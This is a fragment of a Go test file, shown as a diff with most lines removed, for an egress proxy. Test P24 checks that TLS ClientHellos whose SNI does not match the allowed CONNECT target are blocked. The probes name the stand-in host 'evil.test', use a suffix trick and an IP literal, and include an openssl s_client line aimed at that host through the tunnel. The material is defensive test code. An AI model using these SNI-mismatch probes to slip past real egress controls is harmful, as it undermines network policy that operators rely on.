-			// proxy can wait for the client's first bytes before dialing).
-			if a := lo.accepts.Load() - before; a < 1 || a > 2 {
-				t.Errorf("the upstream on 127.0.0.1 accepted %d connections, want only the controls' (1 or 2); requests %q", a, lo.requests())
-			}
-			if lo6 != nil {
-				lo6.assertUntouched(t, "the host's [::1] listener")
-			}
-		})
-	})
-}
-
-// P24: after CONNECT to an allowed name, a TLS ClientHello whose SNI
-// names another host (or no host) closes the tunnel; the upstream sees no
-// ClientHello. The control with the right SNI completes a request.
-func TestP24_SNIMismatch(t *testing.T) {
-	eachIdent(t, func(t *testing.T, id *ident) {
-		s := newUpstream(t, "127.0.0.3", 0, true)
-		n := egressNet{
-			allow:   []ep{{"tls.allowed.test", []int{s.port}}, {s.ip, []int{s.port}}},
-			private: []ep{{s.ip + "/32", []int{s.port}}},
-			hosts:   map[string]string{"tls.allowed.test": s.ip},
-		}
-		target := s.hostPort("tls.allowed.test")
-		var script strings.Builder
-		// An allowed IP literal: no SNI is fine, an SNI naming a host is not.
-		ipTarget := s.hostPort(s.ip)
-		fmt.Fprintf(&script, "%s sni %s %s evil.test | sed 's/^sni:/sni-ipliteral-evil:/'\n", probeBin, proxyAddr, ipTarget)
-		fmt.Fprintf(&script, "%s sni %s %s - | sed 's/^sni:/sni-ipliteral-none:/'\n", probeBin, proxyAddr, ipTarget)
-		for _, c := range [][2]string{{"evil", "evil.test"}, {"none", "-"}, {"suffix", "tls.allowed.test.evil.test"}, {"ip", s.ip}, {"control", "tls.allowed.test"}} {
-			fmt.Fprintf(&script, "%s sni %s %s %s | sed 's/^sni:/sni-%s:/'\n", probeBin, proxyAddr, target, c[1], c[0])
-		}
-		if _, err := exec.LookPath("openssl"); err == nil {
-			fmt.Fprintf(&script, "openssl s_client -proxy %s -connect %s -servername evil.test </dev/null >/dev/null 2>&1; echo \"openssl-evil: $?\"\n", proxyAddr, target)
-		}
-		res, _ := proxyRun(t, id, n, nil, nil, script.String())
-		want(t, res, "sni-control", "ok 200", false)
-		want(t, res, "sni-ipliteral-none", "ok 200", false)
-		for _, k := range []string{"sni-evil", "sni-none", "sni-suffix", "sni-ip", "sni-ipliteral-evil"} {
-			want(t, res, k, "handshake:", true)
-		}
-		if v, ok := lineValue(res.stdout, "openssl-evil"); ok && v == "0" {
-			t.Errorf("openssl s_client -servername evil.test through the tunnel succeeded\n%s", res)
-		}
-		if h := s.hellos.Load(); h != 2 {
-			t.Errorf("the upstream saw %d TLS ClientHellos, want 2 (the controls: right SNI, and no SNI to an allowed IP literal)", h)
 		}
 	})
 }
